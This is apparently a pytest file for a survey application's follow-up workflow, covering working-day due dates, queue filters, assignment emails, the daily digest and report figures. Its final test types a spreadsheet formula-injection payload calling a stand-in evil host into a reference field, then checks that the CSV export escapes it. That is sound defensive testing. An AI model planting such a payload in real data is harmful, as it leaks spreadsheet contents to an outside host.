"""The closed loop (issue #19): due dates in working days, the queue and its filters, the
follow-up page with the answers in words, assignment with its email, notes and closing, the
daily digest sent once, and the loop's figures in the report and `campaigns status`."""

from __future__ import annotations

import json
import statistics
import threading
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from sqlalchemy import func, select

from survey.auth.operations import create_user
from survey.distribution.sms_window import SmsWindow
from survey.extensions import db
from survey.followups import operations as ops
from survey.followups.notifications import build_digest, deliver
from survey.followups.operations import Calendar
from survey.followups.service_levels import ServiceLevelError, due_at
from survey.followups.tasks import digest_day_has_begun
from survey.models import (
    AuditEvent,
    Campaign,
    FollowUp,
    NotificationState,
    Programme,
    StaffNotification,
    User,
)
from survey.worker import run_pending_jobs
from survey.worker.scheduler import queue_due_tasks
from tests.respond.helpers import answer_all, make_link, open_campaign
from tests.survey.factories import make_customer

PASSWORD = "a-long-password-123"
PARIS = "Europe/Paris"


# --- due dates -----------------------------------------------------------------------------


def paris(*args: int) -> datetime:
    from zoneinfo import ZoneInfo

    return datetime(*args, tzinfo=ZoneInfo(PARIS))


def test_due_date_skips_the_weekend_and_a_public_holiday():
    # Friday 10 July 2026; Sunday 12 is not a working day (mon-sat), Tuesday 14 is Bastille Day.
    created = paris(2026, 7, 10, 16, 30)
    due = due_at(created, 3, timezone=PARIS)  # Sat 11, Mon 13, (Tue 14 off), Wed 15
    assert due == paris(2026, 7, 15, 20, 0)
    assert due.tzinfo == UTC
    weekdays = SmsWindow(days=frozenset(range(5)))  # mon-fri: Saturday is off too
    assert due_at(created, 1, timezone=PARIS, window=weekdays) == paris(2026, 7, 13, 20, 0)
    assert due_at(created, 2, timezone=PARIS, window=weekdays) == paris(2026, 7, 15, 20, 0)
    # No public holidays: the 14th counts.
    plain = SmsWindow(days=frozenset(range(5)), holiday_country=None)
    assert due_at(created, 2, timezone=PARIS, window=plain) == paris(2026, 7, 14, 20, 0)
    # The day itself does not count, whatever the hour; 0 days is tonight.
    assert due_at(paris(2026, 7, 10, 8, 0), 1, timezone=PARIS) == paris(2026, 7, 11, 20, 0)
    assert due_at(created, 0, timezone=PARIS) == paris(2026, 7, 10, 20, 0)
    whole_day = SmsWindow(opens=0, closes=24 * 60)
    assert due_at(created, 1, timezone=PARIS, window=whole_day) == paris(2026, 7, 12, 0, 0)
    with pytest.raises(ServiceLevelError, match="0 to 60"):
        due_at(created, 61, timezone=PARIS)


# --- fixtures ------------------------------------------------------------------------------


def login(client, email: str, role: str = "manager") -> int:
    with client.application.app_context():
        user = create_user(db.session, email, role, PASSWORD, actor="test")
        db.session.commit()
        user_id = user.id
    response = client.post("/login", data={"email": email, "password": PASSWORD})
    assert response.status_code in (302, 303)
    return user_id


@pytest.fixture
def live(app, client):
    """One customer answered the bundled questionnaire through the pages: overall 2/5, NPS 5,
    a comment and a callback request by phone, i.e. one callback and one detractor follow-up."""
    with app.app_context():
        customer = make_customer(phone="+33612345678", email="jeanne@example.fr",
                                 name="Jeanne Martin")
        invitation, link = make_link(open_campaign(), customer=customer)
        campaign_id = invitation.campaign_id
    answer_all(client, link)
    with app.app_context():
        items = {f.kind: f.id for f in db.session.scalars(select(FollowUp))}
    assert set(items) == {"callback", "detractor"}
    return {"campaign_id": campaign_id, **items}


def test_a_live_response_gets_its_due_dates_and_score(app, live):
    with app.app_context():
        programme = db.session.scalars(select(Programme)).one()
        assert (programme.callback_days, programme.detractor_days) == (2, 5)
        for kind, days in (("callback", 2), ("detractor", 5)):
            item = db.session.get(FollowUp, live[kind])
            assert item.due_at == due_at(item.created_at, days, timezone=PARIS)
            assert (item.score, item.score_max) == (5, 10)  # the NPS answer
            assert item.status == "open" and item.owner_id is None


def test_service_levels_change_the_next_follow_ups(app, client):
    login(client, "boss@example.org")
    with app.app_context():
        campaign = open_campaign()
        programme_id, campaign_id = campaign.programme_id, campaign.id
        db.session.commit()
    page = client.get("/manage/follow-ups/service-levels?lang=en")
    assert page.status_code == 200 and "Monday" in page.text and "(FR)" in page.text
    refused = client.post("/manage/follow-ups/service-levels", data={
        "programme": programme_id, f"p{programme_id}-callback_days": "99",
        f"p{programme_id}-detractor_days": "3"})
    assert refused.status_code == 200
    saved = client.post("/manage/follow-ups/service-levels", data={
        "programme": programme_id, f"p{programme_id}-callback_days": "1",
        f"p{programme_id}-detractor_days": "3"})
    assert saved.status_code == 303
    with app.app_context():
        programme = db.session.get(Programme, programme_id)
        assert (programme.callback_days, programme.detractor_days) == (1, 3)
        invitation, link = make_link(db.session.get(Campaign, campaign_id))
    answer_all(client, link)
    with app.app_context():
        item = db.session.scalars(select(FollowUp).where(FollowUp.kind == "callback")).one()
        assert item.due_at == due_at(item.created_at, 1, timezone=PARIS)
        assert db.session.scalar(select(func.count()).select_from(AuditEvent).where(
            AuditEvent.action == "programme.service_levels")) == 1


# --- the queue and the home page -------------------------------------------------------------


def make_overdue(app, follow_up_id: int) -> None:
    with app.app_context():
        item = db.session.get(FollowUp, follow_up_id)
        item.due_at = datetime.now(UTC) - timedelta(days=3)
        db.session.commit()


def test_overdue_follow_up_flagged_on_home_page_and_queue(app, client, live):
    login(client, "boss@example.org")
    home = client.get("/?lang=en")
    assert "2 follow-ups being handled" in home.text and "None overdue" in home.text
    make_overdue(app, live["detractor"])
    home = client.get("/?lang=en")
    assert "1 overdue" in home.text and "/manage/follow-ups?overdue=1" in home.text
    queue = client.get("/manage/follow-ups?lang=en")
    assert queue.status_code == 200
    assert queue.text.count("mark-overdue") == 1
    overdue_only = client.get("/manage/follow-ups?overdue=1&lang=en")
    assert "1 follow-up" in overdue_only.text
    assert f"/manage/follow-ups/{live['detractor']}" in overdue_only.text
    assert f"/manage/follow-ups/{live['callback']}" not in overdue_only.text
    # The row shows the score, the comment's first words and the preferred channel.
    assert "5/10" in queue.text and "Trop d’attente." in queue.text and "By phone" in queue.text
    french = client.get("/manage/follow-ups?lang=fr")
    assert "En retard" in french.text and "Par téléphone" in french.text


def test_queue_filters_sorting_and_paging(app, client):
    from survey.reporting.synthetic import seed_synthetic_responses

    login(client, "boss@example.org")
    with app.app_context():
        campaign = open_campaign()
        seed_synthetic_responses(db.session, campaign, rng_seed=3, n_respondents=260)
        db.session.commit()
        active = db.session.scalar(select(func.count()).select_from(FollowUp).where(
            FollowUp.status.in_(ops.ACTIVE)))
        total = db.session.scalar(select(func.count()).select_from(FollowUp))
        low = db.session.scalar(select(func.count()).select_from(FollowUp).where(
            FollowUp.score <= 3))
    assert total > ops.PER_PAGE and active > 0
    page = client.get("/manage/follow-ups?state=all&lang=en")
    assert f"{total} follow-ups" in page.text and "page 1 of" in page.text
    assert page.text.count('name="ids"') <= ops.PER_PAGE
    with app.app_context():
        seen: list[int] = []
        filters = ops.QueueFilters(state="all", sort="-score")
        pages = ops.queue_page(db.session, filters, user_id=None).pages
        for number in range(1, pages + 1):
            filters.page = number
            seen += [i.id for i in ops.queue_page(db.session, filters, user_id=None).items]
        assert len(seen) == len(set(seen)) == total  # pages never overlap nor skip
        scores = [db.session.get(FollowUp, i).score for i in seen]
        present = [s for s in scores if s is not None]
        assert present == sorted(present, reverse=True)
        assert ops.queue_page(db.session, ops.QueueFilters(state="all", score_at_most=3),
                              user_id=None).total == low
        assert ops.queue_page(db.session, ops.QueueFilters(state="closed"),
                              user_id=None).total == total - active
    second = client.get("/manage/follow-ups?state=all&page=2&lang=en")
    assert "page 2 of" in second.text and "Previous page" in second.text


def test_assign_to_me_and_bulk_assignment_tell_the_owner(app, client, live):
    me = login(client, "boss@example.org")
    with app.app_context():
        colleague = create_user(db.session, "agent@example.org", "manager", PASSWORD,
                                actor="test")
        db.session.commit()
        colleague_id = colleague.id
    mine = client.post("/manage/follow-ups/assign", data={"mine": live["callback"]})
    assert mine.status_code == 303
    bulk = client.post("/manage/follow-ups/assign?state=active",
                       data={"ids": [live["detractor"], live["callback"]],
                             "owner": colleague_id})
    assert bulk.status_code == 303 and bulk.headers["Location"].endswith("?state=active")
    with app.app_context():
        owners = {f.kind: f.owner_id for f in db.session.scalars(select(FollowUp))}
        assert owners == {"callback": colleague_id, "detractor": colleague_id}
        notes = db.session.scalars(select(StaffNotification).order_by(
            StaffNotification.id)).all()
        # Assigning to oneself sends nothing; the colleague hears of both.
        assert [(n.kind, n.user_id, n.state) for n in notes] == [
            ("assignment", colleague_id, "sent"), ("assignment", colleague_id, "sent")]
        events = db.session.scalars(select(AuditEvent.summary).where(
            AuditEvent.action == "follow_up.assign").order_by(AuditEvent.id)).all()
        assert events[0] == {"from": None, "to": me}
    files = sorted((Path(app.instance_path) / "outbox" / "staff").iterdir())
    assert len(files) == 2
    text = files[0].read_text()
    assert "To: agent@example.org" in text and "/manage/follow-ups/" in text
    assert "List-Unsubscribe" not in text
    queue = client.get("/manage/follow-ups?owner=" + str(colleague_id))
    assert "agent@example.org" in queue.text


def test_follow_up_page_shows_answers_as_labels_in_both_languages(app, client, live):
    login(client, "boss@example.org")
    english = client.get(f"/manage/follow-ups/{live['callback']}?lang=en")
    assert english.status_code == 200
    text = english.text
    assert "How did you contact our customer service" in text
    assert "By phone, By email" in text  # channels used, as labels
    assert "Yes — By phone" in text  # the callback request, never a raw dict
    assert "2/5" in text and "5/10" in text
    assert "[&#39;phone&#39;]" not in text and "requested" not in text and "billing" not in text
    # The customer asked to be called and agreed: the contact details are shown.
    assert 'href="tel:+33612345678"' in text and "Jeanne Martin" in text
    french = client.get(f"/manage/follow-ups/{live['callback']}?lang=fr")
    assert "Comment avez-vous contacté notre service client" in french.text
    assert "Par téléphone, Par e-mail" in french.text and "Oui — Par téléphone" in french.text


def test_notes_tries_and_closing_with_an_outcome(app, client, live):
    login(client, "boss@example.org")
    url = f"/manage/follow-ups/{live['callback']}"
    refused = client.post(url + "/close", data={"outcome": "unreachable"})
    assert refused.status_code == 200 and "record the tries" in refused.text
    noted = client.post(url + "/note", data={"body": "Messagerie, rappel demain. Mme Faure",
                                             "contact_attempt": "y"})
    assert noted.status_code == 303
    no_reference = client.post(url + "/close", data={"outcome": "complaint"})
    assert "needs its reference" in no_reference.text
    closed = client.post(url + "/close", data={"outcome": "complaint", "reference": "REC-42"})
    assert closed.status_code == 303
    with app.app_context():
        item = db.session.get(FollowUp, live["callback"])
        assert item.status == "closed" and item.outcome == "complaint"
        assert item.outcome_reference == "REC-42" and item.contact_attempts == 1
        assert item.first_contact_at is not None and item.closed_at >= item.first_contact_at
        trail = db.session.scalars(select(AuditEvent).where(
            AuditEvent.object_type == "follow_up").order_by(AuditEvent.id)).all()
        assert [e.action for e in trail] == ["follow_up.note", "follow_up.close"]
        assert "Faure" not in json.dumps([e.summary for e in trail])
    page = client.get(url + "?lang=en")
    assert "Messagerie, rappel demain." in page.text and "REC-42" in page.text
    assert client.post(url + "/reopen").status_code == 303
    with app.app_context():
        item = db.session.get(FollowUp, live["callback"])
        assert item.status == "in_progress" and item.outcome is None


def test_roles_export_and_old_addresses(app, client, live):
    login(client, "reader@example.org", "auditor")
    assert client.get("/manage/follow-ups").status_code == 403
    assert client.get(f"/manage/follow-ups/{live['callback']}").status_code == 403
    figures = client.get("/manage/follow-ups/figures?lang=en")
    assert figures.status_code == 200 and "Baromètre satisfaction 2026" in figures.text
    client.post("/logout")
    login(client, "boss@example.org")
    moved = client.get("/manage/campaigns/barometre-2026/follow-ups")
    assert moved.status_code == 302 and "campaign=barometre-2026" in moved.headers["Location"]
    exported = client.get("/manage/follow-ups.csv?state=all")
    assert exported.status_code == 200
    lines = exported.text.strip().splitlines()
    assert lines[0].startswith("id,campaign,kind,status,score") and len(lines) == 3
    assert "Trop" not in exported.text and "jeanne" not in exported.text
    assert "+3361" not in exported.text


# --- the digest ----------------------------------------------------------------------------


def test_digest_lists_overdue_and_is_sent_once_with_two_workers(app, live):
    make_overdue(app, live["detractor"])
    with app.app_context():
        boss = create_user(db.session, "boss@example.org", "manager", PASSWORD, actor="test")
        agent = create_user(db.session, "agent@example.org", "manager", PASSWORD, actor="test")
        create_user(db.session, "reader@example.org", "auditor", PASSWORD, actor="test")
        db.session.commit()
        ops.assign(db.session, db.session.get(FollowUp, live["detractor"]), agent.id,
                   actor="test")
        db.session.commit()
        db.session.query(StaffNotification).delete()  # only the digest is under test here
        db.session.commit()
        boss_id, agent_id = boss.id, agent.id

    barrier = threading.Barrier(2)
    results: list = []
    errors: list = []

    def worker() -> None:
        try:
            with app.app_context():
                barrier.wait(timeout=30)
                result = build_digest(db.session)
                db.session.commit()
                sent = deliver(db.session, app.config)
                results.append((result, sent))
                db.session.remove()
        except Exception as error:  # noqa: BLE001 - reported below
            errors.append(error)

    threads = [threading.Thread(target=worker) for _ in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(60)
    assert not errors, errors
    assert sum(r.queued for r, _ in results) == 2  # one each for the two managers
    assert sum(r.already for r, _ in results) == 2
    assert sum(s.sent for _, s in results) == 2
    with app.app_context():
        digests = db.session.scalars(select(StaffNotification).order_by(
            StaffNotification.user_id)).all()
        assert [(d.user_id, d.state) for d in digests] == [(boss_id, "sent"),
                                                            (agent_id, "sent")]
        agent_digest = digests[1].body
        assert "OVERDUE" in agent_digest and "EN RETARD" in agent_digest
        assert f"/manage/follow-ups/{live['detractor']}" in agent_digest
    files = list((Path(app.instance_path) / "outbox" / "staff").iterdir())
    assert len(files) == 2
    # The next run, the same day, sends nothing more.
    with app.app_context():
        again = build_digest(db.session)
        db.session.commit()
        assert (again.queued, again.already) == (0, 2)
        assert deliver(db.session, app.config).sent == 0
        assert db.session.scalar(select(func.count()).select_from(StaffNotification).where(
            StaffNotification.state == NotificationState.SENT)) == 2
        users = db.session.scalars(select(User.email).where(User.id.in_(
            select(StaffNotification.user_id)))).all()
        assert "reader@example.org" not in users


def test_the_workers_send_the_digest_once_a_working_day_without_a_command(app, live):
    make_overdue(app, live["detractor"])
    # A centre open every day at every hour: the digest's day has begun whenever this runs.
    app.config["SMS_WINDOW"] = SmsWindow(opens=0, closes=24 * 60, days=frozenset(range(7)),
                                         holiday_country=None)
    with app.app_context():
        create_user(db.session, "boss@example.org", "manager", PASSWORD, actor="test")
        db.session.query(StaffNotification).delete()
        db.session.commit()
        for _ in range(2):  # two intervals: the second run finds the day's digest made
            assert queue_due_tasks(db.session, {"followup_digest": timedelta(0)}) == [
                "followup_digest"]
            db.session.commit()
            run_pending_jobs(app)
            assert queue_due_tasks(db.session, {"staff_notifications": timedelta(0)}) == [
                "staff_notifications"]
            db.session.commit()
            run_pending_jobs(app)
        digests = db.session.scalars(select(StaffNotification)).all()
        assert [(d.kind, d.state) for d in digests] == [("digest", "sent")]
        assert "EN RETARD" in digests[0].body
    assert len(list((Path(app.instance_path) / "outbox" / "staff").iterdir())) == 1


def test_no_digest_before_the_centre_opens_nor_on_a_closed_day():
    calendar = Calendar("Europe/Paris", SmsWindow())  # 09:00-20:00 Monday to Saturday, FR
    assert not digest_day_has_begun(datetime(2026, 12, 7, 7, 59, tzinfo=UTC), calendar)  # 08:59
    assert digest_day_has_begun(datetime(2026, 12, 7, 8, 0, tzinfo=UTC), calendar)  # Mon 09:00
    assert not digest_day_has_begun(datetime(2026, 12, 6, 12, 0, tzinfo=UTC), calendar)  # Sun
    assert not digest_day_has_begun(datetime(2026, 12, 25, 12, 0, tzinfo=UTC), calendar)  # Xmas


def test_digest_command_and_list_command(app, runner, live):
    make_overdue(app, live["detractor"])
    with app.app_context():
        create_user(db.session, "boss@example.org", "manager", PASSWORD, actor="test")
        db.session.commit()
    result = runner.invoke(["followups", "digest"])
    assert result.exit_code == 0, result.output
    assert "1 queued" in result.output and "1 sent" in result.output
    again = runner.invoke(["followups", "digest"])
    assert "0 queued, 1 already" in again.output
    listed = runner.invoke(["followups", "list", "--overdue", "--format", "json"])
    rows = json.loads(listed.output)["follow_ups"]
    assert [r["id"] for r in rows] == [live["detractor"]] and rows[0]["overdue"] is True
    bad = runner.invoke(["followups", "service-levels", "Baromètre satisfaction",
                         "--callback-days", "99"])
    assert bad.exit_code == 2 and "0 to 60" in bad.output
    unknown = runner.invoke(["followups", "service-levels", "Nope"])
    assert unknown.exit_code == 2
    bad_time = runner.invoke(["followups", "digest", "--at", "tomorrow"])
    assert bad_time.exit_code == 2


# --- the figures -----------------------------------------------------------------------------


def test_report_and_status_figures_equal_the_database(app, runner):
    from survey.reporting.builder import compute_report
    from survey.reporting.operations import report_inputs
    from survey.reporting.synthetic import seed_synthetic_responses

    with app.app_context():
        campaign = open_campaign()
        seed_synthetic_responses(db.session, campaign, rng_seed=5, n_respondents=150)
        db.session.commit()
        now = datetime.now(UTC)
        rows = db.session.execute(select(
            FollowUp.kind, FollowUp.created_at, FollowUp.due_at, FollowUp.first_contact_at,
            FollowUp.closed_at, FollowUp.outcome)).all()
        inputs = report_inputs(db.session, campaign)
        data = compute_report(inputs)
        slug = campaign.slug
    closed = [r for r in rows if r.closed_at is not None]
    on_time = [r for r in closed if r.closed_at <= r.due_at]
    overdue = [r for r in rows if r.closed_at is None and r.due_at < now]
    contact_hours = [(r.first_contact_at - r.created_at).total_seconds() / 3600
                     for r in rows if r.first_contact_at is not None]
    expected = {
        "total": len(rows), "closed": len(closed), "overdue": len(overdue),
        "closed_on_time": len(on_time), "judged": len(closed) + len(overdue),
        "on_time_share": len(on_time) / (len(closed) + len(overdue)),
        "median_hours_to_contact": statistics.median(contact_hours),
        "outcomes": {o: sum(r.outcome == o for r in rows) for o in
                     ("resolved", "not_resolved", "complaint", "unreachable", "declined")},
    }
    assert len(rows) > 20 and closed and overdue
    figures = data["follow_ups"]["all"]
    for key, value in expected.items():
        assert figures[key] == pytest.approx(value), key
    callbacks = [r for r in rows if r.kind == "callback"]
    assert data["follow_ups"]["kinds"][0]["total"] == len(callbacks)
    status = runner.invoke(["campaigns", "status", slug, "--json"])
    loop = json.loads(status.output)["follow_ups"]["all"]
    for key, value in expected.items():
        assert loop[key] == pytest.approx(value), key
    text = runner.invoke(["campaigns", "status", slug])
    assert f"follow-ups: {len(rows)} ({len(closed)} closed" in text.output


def test_a_typed_reference_cannot_run_as_a_formula_in_the_csv(app, client, live):
    """A reference typed on closing reaches the CSV a manager opens in a spreadsheet as text."""
    import csv
    import io

    login(client, "boss@example.org")
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    url = f"/manage/follow-ups/{live['callback']}"
    client.post(url + "/note", data={"body": "Rappelé", "contact_attempt": "y"})
    closed = client.post(url + "/close", data={"outcome": "complaint", "reference": hostile})
    assert closed.status_code == 303
    exported = client.get("/manage/follow-ups.csv?state=all")
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(exported.text))}
    row = rows[str(live["callback"])]
    assert row["outcome_reference"] == "'" + hostile
    # Numbers stay numbers.
    assert row["score"] == "5" and row["contact_attempts"] == "1"
